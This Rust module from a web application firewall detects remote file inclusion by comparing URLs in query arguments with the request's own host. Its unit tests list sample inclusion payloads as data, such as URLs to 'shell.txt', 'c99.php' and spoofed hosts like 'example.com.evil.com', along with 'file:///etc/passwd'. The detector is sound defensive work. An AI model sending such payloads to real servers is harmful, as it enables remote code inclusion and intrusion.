//! A URL in a query argument that points at another site and has the shape
//! of something a server includes or fetches: the classic remote file
//! inclusion `?page=http://evil.example/shell.txt` (CRS rules 931100-931130).
//! Not a regex: it compares the URL's authority with the request's own
//! `Host`, so it runs only where both are known. Payload bodies (where URLs
//! are data) are left to the signature tables.
//!
//! Any off-site URL (CRS 931130, paranoia level 2) is too wide: APIs take
//! links in their queries (`?url=https://example.com/page`, a homepage, a
//! share link), and 52% of the string values of GitHub's webhook examples,
//! sent as query arguments, were refused by it. What an inclusion needs is
//! a script or text file (`.php`, `.txt`), a URL cut short by `?`, an
//! address instead of a name, credentials, a scheme other than HTTP(S), or
//! a host dressed as the site's own (`example.com.evil.com`).
//!
//! A bare homepage (`?x=https://foo.example/`) is not enough: it is what
//! out-of-band probes send, and the CRS tests it at paranoia level 2, but a
//! server cannot include a homepage, fetching one harms only through an
//! internal address ([`super::ssrf`]), and API data is full of them
//! (a company's `website`, a profile's `blog`): 14 of 3,373 botocore
//! example values and 403 of 8,000 Faker values were refused for it.

/// Where a query value was sent: the request's own host, and whether the
/// value's field names a file the application opens
/// ([`crate::waf::extract::UrlRole::Inclusion`]).
#[derive(Debug, Clone, Copy)]
pub struct Site<'h> {
    pub host: &'h str,
    pub names_a_file: bool,
}

/// Whether `value` (a normalised query value) is an absolute URL whose
/// authority is neither the site's host nor a subdomain of it, in a field
/// that names a file or with the shape of an inclusion ([`includable`]). A
/// port counts: a different port on the same name is another server.
pub fn points_off_site(value: &str, site: Site<'_>) -> bool {
    let host = site.host.trim().trim_end_matches('.').to_ascii_lowercase();
    if host.is_empty() {
        return false;
    }
    match url_parts(value) {
        Some(url) if !url.host.is_empty() => {
            let authority = url.host.trim_end_matches('.');
            let same = authority == host
                || authority.strip_suffix(host.as_str()).is_some_and(|head| head.ends_with('.'));
            !same && (site.names_a_file || includable(&url) || imitates(authority, &host))
        }
        _ => false,
    }
}

/// Schemes an include or a fetch on the server follows.
const FETCHED_SCHEMES: [&str; 5] = ["http", "https", "ftp", "ftps", "file"];

/// Extensions of files a server runs or reads as code or configuration when
/// it includes them.
const INCLUDED_EXTENSIONS: [&str; 19] = [
    "php", "php3", "php4", "php5", "php7", "phtml", "inc", "txt", "asp", "aspx", "jsp", "pl", "cgi", "sh",
    "py", "rb", "ini", "conf", "cfg",
];

/// An absolute URL, split as [`points_off_site`] reads it.
struct UrlParts<'v> {
    scheme: &'v str,
    /// `host[:port]`, without user information.
    host: &'v str,
    userinfo: bool,
    /// Everything after the authority.
    rest: &'v str,
}

/// The parts of `scheme://[userinfo@]authority/...`, after an optional
/// `url:` or `jar:` wrapper; `None` when the value is no such URL.
fn url_parts(value: &str) -> Option<UrlParts<'_>> {
    let value = value.trim();
    let value = value.strip_prefix("url:").or_else(|| value.strip_prefix("jar:")).unwrap_or(value);
    let (scheme, after) = value.split_once("://")?;
    if !FETCHED_SCHEMES.contains(&scheme) {
        return None;
    }
    let end = after.find(['/', '?', '#', '\\', ' ']).unwrap_or(after.len());
    let authority = after.get(..end)?;
    let (userinfo, host) = authority.rsplit_once('@').map_or((false, authority), |(_, host)| (true, host));
    Some(UrlParts { scheme, host, userinfo, rest: after.get(end..).unwrap_or_default() })
}

/// Whether another site's authority is dressed as the site's own host, to
/// pass a check that compares prefixes or suffixes
/// (`example.com.evil.com`, `evilexample.com` for `example.com`), or is the
/// site's own name on another port (`example.com:1234`, another server:
/// the shape of a port scan through the application).
fn imitates(authority: &str, host: &str) -> bool {
    let name = super::ssrf::strip_port(authority);
    name.strip_prefix(host).is_some_and(|tail| tail.starts_with('.')) || name.ends_with(host)
}

/// Whether an off-site URL has what an inclusion needs (see the module's
/// documentation), rather than being a link.
fn includable(url: &UrlParts<'_>) -> bool {
    let name = super::ssrf::strip_port(url.host);
    let address = url.host.starts_with('[') || name.bytes().all(|b| b.is_ascii_digit() || b == b'.');
    let (path, query) = url.rest.split_once('?').unwrap_or((url.rest, ""));
    let path = path.split('#').next().unwrap_or_default();
    let file = path.rsplit(['/', '\\']).next().unwrap_or_default();
    // A script with its query is a page linked to (`show_bug.cgi?id=1`,
    // `index.php?title=X`); included, it comes bare or cut short by `?`.
    let extension = file.rsplit_once('.').map(|(_, ext)| ext).filter(|_| query.is_empty());
    !url.scheme.starts_with("http")
        || url.userinfo
        || address
        || url.rest.ends_with('?')
        || extension.is_some_and(|ext| INCLUDED_EXTENSIONS.contains(&ext))
}

#[cfg(test)]
mod tests {
    use super::{Site, points_off_site};

    fn off_site(value: &str, host: &str) -> bool {
        points_off_site(value, Site { host, names_a_file: false })
    }

    #[test]
    fn inclusions_from_other_hosts_and_ports_are_off_site() {
        assert!(off_site("https://evil.example/x.txt", "localhost"));
        assert!(off_site("ftp://foo.bar", "localhost"));
        assert!(off_site("https://example.com.evil.com/shell.php", "example.com"));
        assert!(off_site("https://example.com:1234/c99.php", "example.com"));
        assert!(off_site("http://example.com@evil.com/", "example.com"));
        assert!(off_site("url:file://foo.bar", "localhost"));
        assert!(off_site("http://66.240.183.75/crash", "localhost"));
        assert!(off_site("https://[2001:db8::1]/", "localhost"));
        assert!(off_site("http://evil.example/page?", "localhost"));
        assert!(off_site("https://example.com.evil.com/", "example.com"));
        assert!(off_site("https://evilexample.com/", "example.com"));
        assert!(off_site("https://localhost:8443/docs/start", "localhost"));
    }

    #[test]
    fn links_to_other_sites_are_not_inclusions() {
        for link in [
            "https://example.com/about",
            "https://lists.debian.org/debian-devel/2021/11/msg00176.html",
            "https://api.github.com/repos/octo/hello/issues?labels=bug",
            "https://github.com/octo/hello/blob/main/readme.md",
            "https://bit.ly/34xloxa",
            "https://bugzilla.redhat.com/show_bug.cgi?id=1916813",
            "https://en.wikipedia.org/w/index.php?title=uniform_resource_locator&action=history",
            "https://www.weston.com/",
            "http://canary.example",
        ] {
            assert!(!off_site(link, "localhost"), "{link}");
        }
    }

    #[test]
    fn any_other_site_in_a_field_naming_a_file_is_an_inclusion() {
        let site = Site { host: "localhost", names_a_file: true };
        assert!(points_off_site("https://foo.bar", site));
        assert!(!points_off_site("https://localhost/", site));
        assert!(!points_off_site("index.html", site));
    }

    #[test]
    fn the_site_itself_and_non_urls_are_not() {
        assert!(!off_site("https://example.com/", "example.com"));
        assert!(!off_site("http://www.example.com/some/path", "example.com"));
        assert!(!off_site("http://foo:bar@example.com/", "Example.com"));
        assert!(!off_site("https://evilexample.com.example.com/", "example.com"));
        assert!(!off_site("file:///etc/passwd", "example.com"));
        assert!(!off_site("see https://evil.example/", "example.com"));
        assert!(!off_site("a plain value", "example.com"));
        assert!(!off_site("https://evil.example/", ""));
        assert!(!off_site("lz77://some_file.lz", "example.com"));
        assert!(!off_site("data://text/plain;base64,eA==", "example.com"));
    }
}
